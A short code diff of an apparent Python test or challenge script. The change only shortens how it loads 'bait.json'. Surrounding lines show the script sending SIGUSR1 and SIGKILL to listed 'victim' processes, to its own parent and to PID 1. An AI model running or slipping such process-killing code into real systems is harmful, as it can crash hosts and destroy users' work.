@@ -5,8 +5,7 @@ import json
 import os
 import signal
 
-with open("bait.json") as file:
-    bait = json.load(file)
+bait = json.load(open("bait.json"))
 for pid in (*bait["victims"], os.getppid(), 1):
     for number in (signal.SIGUSR1, signal.SIGKILL):
         try:
